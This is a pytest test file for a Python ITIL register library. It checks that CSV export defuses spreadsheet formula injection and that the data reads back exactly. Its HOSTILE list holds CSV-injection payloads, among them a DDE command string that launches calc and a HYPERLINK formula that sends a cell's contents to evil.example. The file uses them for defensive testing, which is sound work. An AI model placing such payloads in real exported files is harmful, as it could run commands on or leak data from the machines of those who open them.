"""``export_csv`` writes no cell a spreadsheet would run as a formula, and imports back exactly.

Issue 11, point 6.  OWASP's "CSV Injection" guidance: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (``=HYPERLINK(...)``,
``=cmd|' /C calc'!A0``); prefixing a single quote makes it text.  The export
prefixes such cells, and also cells that already start with a quote, so
``import_csv`` can take exactly one leading quote away and every text, a real
leading quote included, comes back as it was.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import itil_ci as ic
from itil_ci.register import Register
from itil_ci.register._exchange import neutralise, restore

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "''two quotes",
    "plain text",
]


def _cells(directory: Path) -> list[tuple[str, int, str]]:
    out = []
    for path in sorted(directory.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as f:
            for i, row in enumerate(csv.reader(f, strict=True), start=1):
                out.extend((path.name, i, cell) for cell in row)
    return out


def _hostile_register() -> Register:
    reg = Register.in_memory()
    t = np.array(["2026-01-01", "2026-01-02"], dtype="datetime64[ns]")
    for i, text in enumerate(HOSTILE):
        reg.log(ic.Opportunity(text, id=text, service=text, raised_by=text))
        reg.log(ic.Initiative(text, id=text, owner=text))
        reg.record(f"k{i}", t, [-1.5, 2.0], source=text, dims={"team": text})
    reg.define_kpi(ic.KPI("rate", unit="=1+1"))
    reg.add_baseline(ic.Baseline("rate", -3.0, note="@note"))
    reg.record("rate", t, [-4.0, -5.0], source="+snow")
    return reg


def test_no_exported_text_cell_starts_like_a_formula(tmp_path: Path) -> None:
    reg = _hostile_register()
    reg.export_csv(tmp_path)
    cells = _cells(tmp_path)
    assert len(cells) > 100
    for name, line, cell in cells:
        if name == "observations.csv" and line > 1:
            continue  # checked below: its number cells stay numbers
        assert not cell.startswith(DANGEROUS), (name, line, cell)
    with (tmp_path / "observations.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        for column in ("kpi_key", "source", "dims"):
            assert not row[column].startswith(DANGEROUS), row
        float(row["value"])  # a negative value is written as a number, which runs nothing
        assert row["time"][:1].isdigit()
    assert {r["source"] for r in rows if r["kpi_key"] == "rate"} == {"'+snow"}


def test_the_library_reads_its_own_export_back_exactly(tmp_path: Path) -> None:
    reg = _hostile_register()
    reg.export_csv(tmp_path)
    back = Register.in_memory()
    back.import_csv(tmp_path)
    assert back.export_json() == reg.export_json()
    assert back.opportunity("'already quoted").service == "'already quoted"
    assert back.series("k0", filters={"source": HOSTILE[0]}).values.tolist() == [-1.5, 2.0]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=20))
def test_neutralise_is_inert_and_restore_undoes_it(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(DANGEROUS)
    assert restore(safe) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_an_opportunity_with_a_hostile_title_round_trips(tmp_path: Path, text: str) -> None:
    reg = Register.in_memory()
    reg.log(ic.Opportunity(text, id="o1", service=text))
    reg.export_csv(tmp_path)
    other = Register.in_memory()
    other.import_csv(tmp_path)
    assert other.opportunity("o1") == reg.opportunity("o1")


def test_import_csv_refuses_a_time_outside_the_nanosecond_range_by_line(tmp_path: Path) -> None:
    # numpy parses "3000-01-01" to nanoseconds as 1830-11-23 (int64 wrap); the shared
    # parser (arrays.parse_times_at) reads it twice and refuses it, naming the line.
    from itil_ci.errors import ImportRowError
    from itil_ci.register import Register

    reg = Register.in_memory()
    reg.record("mttr", ["2026-01-01T00:00:00+00:00", "2026-01-02T00:00:00+00:00"], [5.0, 6.0])
    reg.export_csv(tmp_path)
    path = tmp_path / "observations.csv"
    path.write_text(path.read_text().replace("2026-01-02T00:00:00", "3000-01-02T00:00:00"))
    with pytest.raises(ImportRowError, match=r"line 3.*expected a time between 1677") as caught:
        Register.in_memory().import_csv(tmp_path)
    assert "3000-01-02" in str(caught.value)
